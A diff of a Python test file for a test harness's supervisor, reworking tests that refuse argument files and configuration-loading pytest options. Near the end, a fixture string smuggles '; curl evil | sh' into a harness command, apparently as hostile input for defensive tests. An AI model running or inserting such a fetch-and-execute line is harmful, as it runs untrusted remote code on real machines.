@@ -128,6 +128,7 @@ def test_suites_that_the_command_line_does_not_name(run: Runs, monkeypatch: pyte
 
 def test_a_file_of_words_is_not_read(run: Runs, capsys: pytest.CaptureFixture[str]):
     """Words of a file narrow a run whose suites are named on the command line."""
+    Path("words").write_text("-k\nnormal\n")
     for words in (["suites", "@words"], ["suites", "--junitxml", "@words"], ["@words"]):
         code = supervisor.supervise(words, Path.cwd(), Path.cwd(), Path("runs"))
         must_be_red(subprocess.CompletedProcess(words, code, "", capsys.readouterr().err), "'@words'", code=64)
@@ -139,25 +140,26 @@ REFUSED = [
 ]  # fmt: skip
 
 
-@pytest.mark.parametrize("words", [*REFUSED, "-x -v -k normal -p plugin --junitxml j.xml -n 1 -W ignore"])
+@pytest.mark.parametrize("words", REFUSED)
 def test_harness_verify_reads_no_configuration(
     monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], words: str
 ):
-    """A word for pytest has it read a file that chooses what is loaded; other words are handed on."""
-    begun = []
-
-    def supervise(below: list[str], *_: Any) -> Exit:
-        begun.append(below)
-        return Exit.CLEAN
-
-    monkeypatch.setattr(_suites, "supervise", supervise)
+    """A word for pytest has it read a file that chooses what is loaded."""
+    monkeypatch.setattr(_suites, "supervise", lambda *_: Exit.CLEAN)
     monkeypatch.setattr(_suites, "leave", lambda code: sys.exit(int(code)))
     found = command(capsys, "verify", "swizzle", *words.split())
-    if words in REFUSED:
-        must_be_red(found, code=64)
-        assert found.stderr.count("\n") == 1
-    else:
-        assert found.returncode == 0 and {"-c", "--noconftest", "-k", "plugin"} <= {*begun[0]}
+    must_be_red(found, code=64)
+    assert found.stderr.count("\n") == 1
+
+
+def test_harness_verify_hands_on_other_words(monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]):
+    """No way to green: none of these words has pytest read a file that chooses."""
+    begun = []
+    monkeypatch.setattr(_suites, "supervise", lambda below, *_: begun.extend(below) or Exit.CLEAN)
+    monkeypatch.setattr(_suites, "leave", lambda code: sys.exit(int(code)))
+    words = "-x -v -k normal -p plugin --junitxml j.xml -n 1 -W ignore"
+    found = command(capsys, "verify", "swizzle", *words.split())
+    assert found.returncode == 0 and {"-c", "--noconftest", "-k", "plugin"} <= {*begun}
 
 
 @pytest.mark.parametrize("words", ["-kgraph", "-xkhalf", "-vh", "-h", "--set full --help"])
@@ -174,8 +176,9 @@ GATE = """
 import sys
 from pathlib import Path
 from harness.runner import supervisor
-from harness.commands._suites import settings
-words = ["suites", *(word for word in settings() if not word.startswith("--rootdir"))]
+from harness.commands import _suites
+settings = _suites.settings() if hasattr(_suites, "settings") else _suites._SETTINGS
+words = ["suites", *(word for word in settings if not word.startswith("--rootdir"))]
 words += ["--rootdir", ".", "-p", "fakes", "-p", "no:hypothesispytest"]
 sys.exit(supervisor.supervise(words, Path.cwd(), Path.cwd(), Path("runs"), ["harness", "verify"]))
 """
@@ -205,7 +208,8 @@ def test_a_variable_says_how_to_go_on(monkeypatch: pytest.MonkeyPatch):
 # A run whose files say what to execute
 
 
-SLOW, FAST = ([us + i / 10 for i in range(12)] for us in (40.0, 20.0))
+SLOW = [40.0 + i / 10 for i in range(12)]
+FAST = [20.0 + (7 * i % 12) / 10 + (i % 5) / 25 for i in range(12)]  # of a measurement of its own
 ASKED = {"folder": "/evil", "subject": EVIL, "recipe_dirs": {}, "options": []}
 COMMAND = f"harness bench --subject {EVIL} --recipe-dir /evil; curl evil | sh"
 NAMING = {
